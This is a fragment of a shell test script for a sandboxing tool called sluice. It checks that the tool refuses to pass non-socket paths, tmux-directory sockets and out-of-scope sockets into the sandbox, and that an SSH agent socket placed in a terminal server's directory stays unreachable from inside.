if o=$(sluice_run --run-dir "$T/run" --ca-dir "$T/ca" --allow api.test --keep-socket /etc/hostname -- true 2>&1); then
	sl_fail "--keep-socket /etc/hostname was taken: $o"
fi
sl_assert_contains "$o" "--keep-socket /etc/hostname: not a unix socket" "--keep-socket refuses what is not a unix socket, and says so"
# ... and no socket that sluice hides, nor one in a terminal server's directory (in the runtime
# dir too), nor one outside the runtime dir (reachable as it is, or hidden).
TD=/run/user/$NOBODY_UID/tmux-$NOBODY_UID
if [ ! -e "$TD" ]; then
	mkdir -m 700 "$TD" && sl_defer "rm -rf $TD" && chown nobody "$TD" || sl_fail "cannot make $TD"
fi
sl_defer "rm -f $TD/$RT_ID"
sl_bg rttmux setpriv --reuid=nobody --regid="$(id -g nobody)" --clear-groups "$PY" "$T/unixd.py" "$TD/$RT_ID" "$T/rtlog/tmux"
sl_wait_for test -S "$TD/$RT_ID" || sl_fail "tmux stand-in in the runtime dir did not start"
for k in "$TD/$RT_ID:a terminal server's directory" "$T/tmux/default:sluice hides" \
	"$T/host.sock:only sockets in the session's runtime dir"; do
	if o=$(sluice_run --run-dir "$T/run" --ca-dir "$T/ca" --allow api.test --keep-socket "${k%%:*}" -- true 2>&1); then
		sl_fail "--keep-socket ${k%%:*} was taken: $o"
	fi
	sl_assert_contains "$o" "refused, " "--keep-socket ${k%%:*} refused"
	sl_assert_contains "$o" "${k#*:}" "... because: ${k#*:}"
done
# $SSH_AUTH_SOCK naming a socket in a terminal server's directory: not bound back, and said.
o=$(SSH_AUTH_SOCK=$TD/$RT_ID sluice_run --run-dir "$T/run" --ca-dir "$T/ca" --allow api.test -- "$PY" -c '
import socket, sys
u = socket.socket(socket.AF_UNIX)
try:
    u.connect(sys.argv[1]); print("tmuxagent connected")
except OSError as e:
    print("tmuxagent error", e.errno)' "$TD/$RT_ID" 2>&1)
sl_assert_contains "$o" "tmuxagent error" "\$SSH_AUTH_SOCK in a terminal server's directory is not bound back into the sandbox"
sl_assert_contains "$o" "stays out of the sandbox: it is in $TD" "... and sluice says why"
[ -s "$T/rtlog/tmux" ] && sl_fail "the stand-in in the terminal server's directory was reached"
sl_ok "the stand-in in the terminal server's directory saw nothing"
[ ${#HOLES[@]} = 0 ] || sl_fail "$(printf '%s; ' "${HOLES[@]}")"
sl_pass
